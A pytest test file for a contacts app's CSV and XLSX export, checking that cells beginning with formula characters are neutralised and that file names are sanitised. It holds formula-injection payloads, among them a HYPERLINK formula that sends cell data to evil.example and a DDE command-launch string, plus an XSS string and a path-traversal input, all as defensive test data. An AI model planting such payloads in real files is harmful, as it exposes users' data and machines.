"""CSV and XLSX exports of the contacts: no cell ever becomes a formula, and text round-trips.

Every test reads the file back with the real reader (the csv module, openpyxl with
``data_only=False``) and checks what a spreadsheet program would see.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis_budget import examples
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from infoint import classification
from infoint import targets as tg
from infoint.exports import (
    FORMULA_PREFIXES,
    XLSX_MAX_CELL,
    contacts_table,
    export_filename,
    neutralise_cell,
    table_csv,
    table_xlsx,
)
from infoint.records import Objective, Profile

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+SUM(1,2)",
    "-2+3",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t",
    "=",
]
LITERAL = [
    'Zoë "the boss" O\'Brien, PhD',
    "José Müller-Łukasz 山田 太郎 🙂",
    "line one\nline two\n\nline four",
    "a,b;c\td",
    '"quoted"',
    "$5M and $10M",
    "<img src=x onerror=alert(1)>",
    "02139",
    "NA",
    " leading and trailing ",
    "   ",
    "",
    "a = b + c - d @ e",  # formula characters inside the text are harmless
    "'already quoted",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows accents right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def quoted_csv(rows: list[list[str]]) -> bytes:
    """What QUOTE_ALL must give: every field in double quotes, quotes doubled, CRLF line ends."""
    lines = [",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in rows]
    return "".join(lines).encode("utf-8-sig")


def read_xlsx(data: bytes):
    book = load_workbook(io.BytesIO(data), data_only=False)
    return book.active


def xlsx_values(sheet) -> list[list[str]]:
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def assert_no_formula(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value is not None:
                assert isinstance(cell.value, str), cell.coordinate
                assert not cell.value.startswith(FORMULA_PREFIXES), (cell.coordinate, cell.value)


def xlsx_expected(value: str) -> str:
    """What an XLSX cell holds: line breaks as LF, XML-illegal characters removed, then
    neutralised."""
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    text = re.sub("[\ud800-\udfff\ufffe\uffff]", "", ILLEGAL_CHARACTERS_RE.sub("", text))
    return neutralise_cell(text)


# ------------------------------------------------------------------ neutralise_cell


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_prefix_gets_a_quote(prefix):
    assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise_cell(prefix) == "'" + prefix


@pytest.mark.parametrize(
    "value, expected",
    [
        (None, ""),
        ("", ""),
        ("Ana", "Ana"),
        (3, "3"),
        (-3, "'-3"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        (" =1", " =1"),
        ("$5M", "$5M"),
    ],
)
def test_neutralise_cell_values(value, expected):
    assert neutralise_cell(value) == expected


def test_the_prefixes_are_the_designs():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n"}


# ------------------------------------------------------------------ CSV


def test_csv_neutralises_every_prefix_and_quotes_every_field():
    header = ["Name", "=Notes"]
    rows = [[p, "ok"] for p in PAYLOADS]
    data = table_csv(header, rows)
    assert data == quoted_csv([[neutralise_cell(v) for v in r] for r in [header] + rows])
    back = read_csv(data)
    assert back[0] == ["Name", "'=Notes"]
    for payload, row in zip(PAYLOADS, back[1:], strict=True):
        assert row == ["'" + payload, "ok"]
        assert not row[0].startswith(FORMULA_PREFIXES)


def test_csv_round_trips_unicode_quotes_commas_and_line_breaks():
    rows = [[text, "x"] for text in LITERAL]
    data = table_csv(["a", "b"], rows)
    assert data.count(b"\r\n") >= len(rows) + 1
    assert read_csv(data) == [["a", "b"]] + rows  # none starts with a formula prefix: unchanged
    assert data == quoted_csv([["a", "b"]] + rows)


def test_csv_of_no_rows_is_just_the_header():
    assert read_csv(table_csv(["Name"], [])) == [["Name"]]


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=1, max_size=4), max_size=5))
def test_any_text_in_csv_is_quoted_neutralised_and_round_trips(rows):
    width = max((len(r) for r in rows), default=1)
    header = [f"c{i}" for i in range(width)]
    data = table_csv(header, rows)
    expected = [[neutralise_cell(v) for v in r] for r in [header] + rows]
    assert data == quoted_csv(expected)
    back = read_csv(data)
    assert back == expected
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in back for cell in row)


# ------------------------------------------------------------------ XLSX


def test_xlsx_neutralises_every_prefix_and_writes_strings():
    header = ["Name", "=Notes"]
    rows = [[p, "=1+1"] for p in PAYLOADS]
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    values = xlsx_values(sheet)
    assert values[0] == ["Name", "'=Notes"]
    for payload, row in zip(PAYLOADS, values[1:], strict=True):
        assert row[0] == xlsx_expected(payload) and row[0].startswith("'")
        assert row[1] == "'=1+1"


def test_xlsx_round_trips_unicode_quotes_commas_and_line_breaks():
    rows = [[text, "x"] for text in LITERAL]
    sheet = read_xlsx(table_xlsx(["a", "b"], rows))
    assert_no_formula(sheet)
    assert xlsx_values(sheet)[1:] == rows


def test_xlsx_looks_right():
    header = ["Name", "Notes"]
    sheet = read_xlsx(
        table_xlsx(header, [["Ana Silva", "n" * 500], ["", "two\nlines"]], sheet="My: contacts?")
    )
    assert sheet.title == "My  contacts"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert (
        8 <= sheet.column_dimensions["A"].width <= 20 and sheet.column_dimensions["B"].width == 60
    )
    assert sheet.freeze_panes == "A2"
    assert sheet["B3"].alignment.wrap_text


def test_xlsx_removes_characters_xml_cannot_hold():
    """Documented loss: control characters (other than tab and line breaks) can't be stored in
    XLSX."""
    sheet = read_xlsx(
        table_xlsx(["a"], [["Ana\x00 \x07Silva\x1b"], ["\x01=1+1"], ["x\ufffey"], ["a\r\nb\rc"]])
    )
    assert_no_formula(sheet)
    assert [r[0] for r in xlsx_values(sheet)[1:]] == ["Ana Silva", "'=1+1", "xy", "a\nb\nc"]


def test_xlsx_cuts_text_at_excels_cell_limit():
    sheet = read_xlsx(table_xlsx(["a"], [["x" * (XLSX_MAX_CELL + 10)]]))
    assert sheet["A2"].value == "x" * XLSX_MAX_CELL


@settings(max_examples=examples(100), deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=1, max_size=3), min_size=1, max_size=4))
def test_any_text_in_xlsx_is_never_a_formula_and_round_trips(rows):
    width = max(len(r) for r in rows)
    header = [f"c{i}" for i in range(width)]
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    back = xlsx_values(sheet)
    padded = [r + [""] * (width - len(r)) for r in rows]
    # openpyxl drops trailing empty rows and columns it never stored; compare what is there
    expected = [header] + [[xlsx_expected(v) for v in r] for r in padded]
    back = [r + [""] * (width - len(r)) for r in back] + [[""] * width] * (
        len(expected) - len(back)
    )
    assert back == expected


@settings(max_examples=examples(100), deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x01 'a1\ufffe"), max_size=8))
def test_formula_characters_and_controls_anywhere_never_make_a_formula(text):
    sheet = read_xlsx(table_xlsx(["a"], [[text]]))
    assert_no_formula(sheet)
    for row in read_csv(table_csv(["a"], [[text]])):
        assert not row[0].startswith(FORMULA_PREFIXES)


# ------------------------------------------------------------------ the contacts table


def people() -> list[tg.Contact]:
    return [
        tg.Contact(
            id=1,
            first_name="Ana",
            last_name="Silva",
            email="ana@example.com",
            organization="=Acme",
            position="Senior UX Researcher",
            target=True,
            notes='Met at a meetup,\n"great"',
            source="linkedin",
            connected_on="2024-05-01",
        ),
        tg.Contact(
            id=2,
            first_name="@Bo",
            last_name="",
            email="",
            organization="Harbourline Hotels",
            position="Front desk agent",
            connection="cold",
            seniority="junior",
            focus="neither",
            notes="-called twice",
            source="form",
        ),
        tg.Contact(id=3, first_name="", last_name="", organization="Nameless Ltd"),
    ]


def test_contacts_table_columns_and_stored_values():
    header, rows = contacts_table(people())
    assert header == [
        "Name",
        "Email",
        "Organization",
        "Position",
        "Connection",
        "Seniority",
        "Focus",
        "Target",
        "Notes",
        "Source",
        "Connected on",
    ]
    assert rows[0] == [
        "Ana Silva",
        "ana@example.com",
        "=Acme",
        "Senior UX Researcher",
        "",
        "",
        "",
        "yes",
        'Met at a meetup,\n"great"',
        "linkedin",
        "2024-05-01",
    ]
    assert rows[1][:1] == ["@Bo"] and rows[1][4:8] == ["cold", "junior", "neither", ""]
    assert (
        rows[2][0] == "" and rows[2][2] == "Nameless Ltd"
    )  # no "(no name)" stand-in in a data file
    assert all(isinstance(v, str) for row in rows for v in row)


def test_contacts_table_uses_the_assessment_when_given():
    ctx = classification.Context.build(
        Profile(location="Toronto"), Objective(roles=["UX Researcher"]), []
    )
    contacts = people()
    assessed = classification.classify(contacts, ctx)
    _, rows = contacts_table(contacts, assessed)
    by_name = {a.contact.id: a for a in assessed}
    for contact, row in zip(contacts, rows, strict=True):
        a = by_name[contact.id]
        assert row[4:7] == [a.connection, a.seniority, a.focus]
    assert rows[0][4:7] == ["first", "senior", "position"]
    assert rows[1][4:7] == ["cold", "junior", "neither"]  # the user's settings win


def test_contacts_table_matches_unsaved_contacts_by_object():
    ctx = classification.Context.build(Profile(), Objective(), [])
    contacts = [
        tg.Contact(first_name="A", position="Director of research"),
        tg.Contact(first_name="B", position="Intern"),
    ]
    _, rows = contacts_table(contacts, classification.classify(contacts, ctx))
    assert [r[5] for r in rows] == ["senior", "junior"]


def test_contacts_table_exported_is_neutralised_in_both_formats():
    header, rows = contacts_table(people())
    csv_rows = read_csv(table_csv(header, rows))
    assert (
        csv_rows[1][2] == "'=Acme"
        and csv_rows[2][0] == "'@Bo"
        and csv_rows[2][8] == "'-called twice"
    )
    assert csv_rows[1][8] == 'Met at a meetup,\n"great"'
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    assert xlsx_values(sheet)[1:] == csv_rows[1:]
    assert sheet.title == "Contacts"


# ------------------------------------------------------------------ file names


@pytest.mark.parametrize(
    "kind, ext, expected",
    [
        ("contacts", "csv", "infoint-contacts-2026-03-04.csv"),
        ("contacts", ".xlsx", "infoint-contacts-2026-03-04.xlsx"),
        ("Target list", "CSV", "infoint-target-list-2026-03-04.csv"),
        ("../../etc/passwd", "csv", "infoint-etc-passwd-2026-03-04.csv"),
        ("Zoë's <script>", "x/l\\sx", "infoint-zoe-s-script-2026-03-04.xlsx"),
        ("", "", "infoint-export-2026-03-04.txt"),
    ],
)
def test_export_filename(kind, ext, expected):
    assert export_filename(kind, ext, datetime(2026, 3, 4, 5, 6)) == expected


def test_export_filename_defaults_to_today():
    assert export_filename("contacts", "csv") == f"infoint-contacts-{datetime.now():%Y-%m-%d}.csv"
